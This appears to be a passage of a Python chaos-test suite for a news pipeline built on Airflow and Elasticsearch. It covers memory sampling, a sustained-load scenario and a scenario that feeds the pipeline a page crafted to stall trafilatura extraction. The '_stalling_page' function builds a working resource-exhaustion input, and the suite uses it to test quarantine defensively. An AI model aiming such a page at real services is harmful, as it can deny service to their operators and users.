    def __init__(self, airflow_pid: int, es_pid: int | None, every: float = 0.5):
        self.airflow, self.every = psutil.Process(airflow_pid), every
        self.es = psutil.Process(es_pid) if es_pid else None
        self.peak_mib: Counter = Counter()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)

    def _role(self, process: psutil.Process) -> str | None:
        if process == self.es:
            return "elasticsearch"
        title = " ".join(process.cmdline())
        if title.startswith("airflow worker"):  # LocalExecutor workers and the task processes they start
            return "worker"
        if "multiprocessing.forkserver" in title:  # the workers' parent, holding what tasks preload
            return "forkserver"
        return next((component for component in self.COMPONENTS if component in title), None)

    def _sample(self) -> None:
        while not self._stop.is_set():
            processes = self.airflow.children(recursive=True)
            if self.es:
                processes.append(self.es)
            for process in processes:
                with contextlib.suppress(psutil.Error):
                    if role := self._role(process):
                        mib = process.memory_info().rss / 2**20
                        self.peak_mib[role] = max(self.peak_mib[role], round(mib))
            self._stop.wait(self.every)

    def __enter__(self) -> MemorySampler:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join()


def _local_es_pid(es_url: str) -> int | None:
    from pipeline.local.elasticsearch import local_node, running_pid

    node = local_node()
    return running_pid(node) if urlsplit(es_url).port == urlsplit(node.url).port else None


LOAD_RUNS = 3
MEMORY_GROWTH_LIMIT = 1.25  # the last round's peak of a process may exceed the first's by at most this factor
ROUND_TIMEOUT_S = 3600.0


def _round_done(es: Elasticsearch, api: ApiClient, alias: str, expected: int) -> bool:
    """Every published article searchable and no poll or process run still going."""
    try:
        pending = [run for dag_id in ("news_poll", "news_process")
                   for run in api.request("GET", f"/dags/{dag_id}/dagRuns", params={"limit": 100})["dag_runs"]
                   if run["state"] not in ("success", "failed")]
    except httpx.TimeoutException:
        return False  # the API server waits for SQLite's one writer while the scheduler is busy: ask again
    es.indices.refresh(index=alias, ignore_unavailable=True)
    return not pending and es.count(index=alias, ignore_unavailable=True)["count"] >= expected


def _poll_round(api: ApiClient, number: int) -> None:
    """Trigger news_poll now, for a data interval ending two days past the last round's: its plan then
    finds every feed due (past any interval or backoff) without waiting for the clock. news_process
    follows from the run's asset event."""
    end = datetime.now(UTC) + timedelta(days=2 * number)
    api.trigger("news_poll", data_interval=(end - timedelta(minutes=15), end))


def sustained_load(bench: Bench) -> ScenarioReport:
    """Feeds x articles through a real Airflow scheduler (news_poll, then news_process from its asset event)
    in three rounds; the peak memory of every process, per round, must not grow from round to round.

    Each round the feeds publish a third of their articles, so every round does the same amount of work.
    """

    def body():
        per_round = max(1, bench.scale.articles // LOAD_RUNS)
        with bench.sites(stubs=0) as sites, bench.run("load", sites) as run:
            bench.progress("sustained_load: starting a standalone Airflow")
            home = bench.workdir / f"{run.prefix}-airflow"
            with airflow.instance(home, run.env(), progress=lambda message: None) as api:
                api.wait_for_dag("news_process")
                api.wait_for_dag("news_poll")
                airflow_pid, rounds, indexed = airflow.running_pid(home), [], 0
                for number in range(1, LOAD_RUNS + 1):
                    sites.reveal(per_round * number)
                    bench.progress(f"sustained_load: round {number} of {LOAD_RUNS}, "
                                   f"{len(sites.published) - indexed} new articles")
                    started = time.perf_counter()
                    with MemorySampler(airflow_pid, _local_es_pid(bench.es_url)) as memory:
                        _poll_round(api, number)
                        deadline = started + ROUND_TIMEOUT_S
                        while not _round_done(bench.es, api, run.alias, len(sites.published)):
                            if time.perf_counter() > deadline:
                                raise TimeoutError(f"round {number} did not finish in {ROUND_TIMEOUT_S:.0f}s")
                            time.sleep(2)
                    seconds = time.perf_counter() - started
                    total = bench.es.count(index=run.alias)["count"]
                    written, indexed = total - indexed, total
                    rounds.append({"round": number, "articles": written, "seconds": round(seconds, 1),
                                   "articles_per_s": round(written / seconds, 1),
                                   "peak_rss_mib": dict(memory.peak_mib)})
                    bench.progress(f"sustained_load: round {number}: {rounds[-1]}")
            counts = reconcile(bench.es, run, sites.published)
            for role, first in rounds[0]["peak_rss_mib"].items():
                last = rounds[-1]["peak_rss_mib"].get(role, 0)
                if last > first * MEMORY_GROWTH_LIMIT:
                    counts.failures.append(f"{role} peak memory grew from {first} MiB to {last} MiB")
            notes = [f"{bench.scale.feeds} feeds, {per_round} new articles per feed per round, through "
                     "airflow standalone (LocalExecutor, pool news_fetch)"]
            return counts, {"rounds": rounds}, notes

    return _timed("sustained_load", "none: sustained volume through the scheduler, memory per round", body)


def _stalling_page() -> bytes:
    """A page built to stall extraction: a flood of tiny paragraphs (trafilatura's time grows faster than
    the page) around the shapes that made the clean-up backtrack, under a title of 40,000 spaces."""
    probes = "<p>[a" + " b=" * 26 + "</p><p>" + "&lt;!--" * 2000 + "</p><p>" + "[a]" * 2000 + "</p>"
    return (f'<html><head><meta property="og:title" content="a{" " * 40_000}b"></head><body><article>'
            f'{probes}{"<p>w</p>" * 60_000}</article></body></html>').encode()


def _process_cost(run: Run, files: list[str]) -> tuple[float, float]:
    """(wall-clock, CPU) seconds of a process run in this thread; the CPU figure does not follow the
    machine's other load."""
    wall, cpu = time.perf_counter(), time.thread_time()
    run.process(files)
    return time.perf_counter() - wall, time.thread_time() - cpu


def hostile_page_in_feed(bench: Bench) -> ScenarioReport:
    """A feed lists, after its articles, a page built to stall extraction. It must be quarantined with the
    reason, every article indexed, and the process run must take at most two page budgets more CPU time
    than the same run over the same feeds without that page, measured just before it."""
    from pipeline.extract import extract_article
    from pipeline.process import PAGE_CPU_SECONDS
    from pipeline.tag import tag_article

    def body():
        with bench.sites() as sites:
            tag_article(extract_article(sites.page(sites.published[-1].url)).body)  # models loaded untimed
            with bench.run("hostile-control", sites) as control:
                control_wall, control_cpu = _process_cost(control, _poll_all(control, sites))
            hostile_url = sites.add_unlisted_page(0, _stalling_page())
            with bench.run("hostile", sites) as run:
                wall, cpu = _process_cost(run, _poll_all(run, sites))
                counts = reconcile(bench.es, run, sites.published)
        on_time = cpu <= control_cpu + 2 * PAGE_CPU_SECONDS
        if counts.quarantined.get(BUDGET_REASON) != 1:
            counts.failures.append(f"{hostile_url} not quarantined over its budget: {counts.quarantined}")
        if not on_time:
            counts.failures.append(f"process run took {cpu:.1f} s of CPU, {control_cpu:.1f} s without the page")
        notes = [f"process run {cpu:.1f} s CPU / {wall:.1f} s wall, without the page {control_cpu:.1f} s CPU / "
                 f"{control_wall:.1f} s wall (bound: + 2 x {PAGE_CPU_SECONDS:g} s CPU)"]
        return counts, {"hostile_pages": 1, "on_time": int(on_time)}, notes

    return _timed("hostile_page_in_feed", "a 0.5 MB page built to stall extraction among the articles", body)


SCENARIOS: dict[str, Callable[[Bench], ScenarioReport]] = {
    "es_cut_mid_bulk": es_cut_mid_bulk,
    "es_overloaded_429": es_overloaded_429,
    "worker_killed_during_fetch": worker_killed_during_fetch,
    "worker_killed_during_index": worker_killed_during_index,
    "sources_failing": sources_failing,
    "archive_full": lambda bench: archive_unusable(bench, "full"),
    "archive_read_only": lambda bench: archive_unusable(bench, "read_only"),
    "concurrent_runs": concurrent_runs,
    "migrate_mid_stream": migrate_mid_stream,
    "sustained_load": sustained_load,
    "hostile_page_in_feed": hostile_page_in_feed,
}
HEAVY = {"sustained_load"}  # run on request (`--scenario sustained_load`), at the scale given


def run_scenarios(names: list[str], scale: Scale, es: Elasticsearch, es_url: str,
                  progress: Callable[[str], None] = lambda message: None) -> list[ScenarioReport]:
    with tempfile.TemporaryDirectory(prefix="canews-chaos-") as workdir:
        bench = Bench(es, es_url, Path(workdir), scale, progress)
        return [SCENARIOS[name](bench) for name in names]
